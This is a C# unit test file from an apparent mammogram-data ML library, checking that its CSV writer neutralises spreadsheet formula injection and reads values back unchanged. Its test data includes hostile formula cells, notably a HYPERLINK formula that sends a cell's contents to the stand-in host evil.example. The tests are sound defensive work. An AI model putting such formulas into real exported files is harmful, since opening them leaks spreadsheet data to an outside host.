using MaMA.MLNet.Data.Manifest;

namespace MaMA.MLNet.Data.Tests.Manifest;

/// <summary>
/// CSV injection (OWASP): text cells we write that could start a spreadsheet formula get a leading <c>'</c> and
/// quotes; numbers we format are left alone; our reader gives back exactly the values written.
/// </summary>
[TestClass]
public sealed class CsvInjectionTests
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2+3", "@SUM(1+1)", "\tcmd", "\r=1", "'=already quoted", "''+twice",
    ];

    [TestMethod]
    public void FormulaCellsGetALeadingQuoteAndAreQuoted()
    {
        Assert.AreEqual("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"", CsvCell.Text(Hostile[0]));
        Assert.AreEqual("\"'+1\"", CsvCell.Text("+1"));
        Assert.AreEqual("\"'-2+3\"", CsvCell.Text("-2+3"));
        Assert.AreEqual("\"'@SUM(1+1)\"", CsvCell.Text("@SUM(1+1)"));
        Assert.AreEqual("\"'\tcmd\"", CsvCell.Text("\tcmd"));
        Assert.AreEqual("\"'\r=1\"", CsvCell.Text("\r=1"));
        Assert.AreEqual("\"''=already quoted\"", CsvCell.Text("'=already quoted"), "one more quote, so reading drops exactly one");
    }

    [TestMethod]
    public void HarmlessTextAndOurNumbersAreNotAltered()
    {
        Assert.AreEqual("images/a.png", CsvCell.Text("images/a.png"));
        Assert.AreEqual("a=b", CsvCell.Text("a=b"), "only the first character matters");
        Assert.AreEqual("'quoted", CsvCell.Text("'quoted"));
        Assert.AreEqual("\"a,b\"", CsvCell.Text("a,b"));
        Assert.AreEqual("", CsvCell.Text(null));
        Assert.AreEqual("-0.25", CsvCell.Number(-0.25f));
        Assert.AreEqual("-1E-07", CsvCell.Number(-1e-7));
    }

    [TestMethod]
    public void WhatTheWriterGuardsTheReaderGivesBack()
    {
        string[] values = [.. Hostile, "plain", "'", "''", "'x", "a,b", " padded ", "-", "=", "\"=\""];
        string line = CsvCell.Row(values.Select(CsvCell.Text));
        var reader = new CsvRowReader(new StringReader(line + "\n"), "t.csv");
        Assert.IsTrue(reader.TryRead(out var row));
        CollectionAssert.AreEqual(values, row!.Fields);
    }

    [TestMethod]
    public void AManifestWithFormulaIdsIsWrittenNeutralisedAndReadsBackUnchanged()
    {
        string folder = Directory.CreateTempSubdirectory("mama-csv-injection-").FullName;
        try
        {
            string manifest = Path.Combine(folder, "manifest.csv");
            var records = new[]
            {
                new MammogramRecord { ImagePath = Path.Combine(folder, "=HYPERLINK(x).png"), PatientId = "+1", StudyId = "@SUM(A1)", Age = 61, Density = 2, Race = "-x" },
                new MammogramRecord { ImagePath = Path.Combine(folder, "b.png"), PatientId = "P2", StudyId = "S2" },
            };
            MammogramManifestWriter.Write(manifest, records);

            var lines = File.ReadAllLines(manifest);
            StringAssert.StartsWith(lines[1], "\"'=HYPERLINK(x).png\",\"'+1\",\"'@SUM(A1)\",");
            StringAssert.Contains(lines[1], ",61,\"'-x\",");
            StringAssert.StartsWith(lines[2], "b.png,P2,S2,");
            foreach (string line in lines.Skip(1))
                foreach (string raw in RawCells(line))
                    Assert.IsFalse(raw.TrimStart('"').Length > 0 && "=+-@\t\r".Contains(raw.TrimStart('"')[0]), $"{raw} reaches the file unguarded: {line}");

            CollectionAssert.AreEqual(records, MammogramManifestReader.Read(manifest).Records.ToArray());
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    // The cells of one line as they stand in the file (quotes kept), split at the commas outside quotes.
    private static IEnumerable<string> RawCells(string line)
    {
        int start = 0;
        bool quoted = false;
        for (int i = 0; i <= line.Length; i++)
        {
            if (i == line.Length || (line[i] == ',' && !quoted))
            {
                yield return line[start..i];
                start = i + 1;
            }
            else if (line[i] == '"') quoted = !quoted;
        }
    }
}
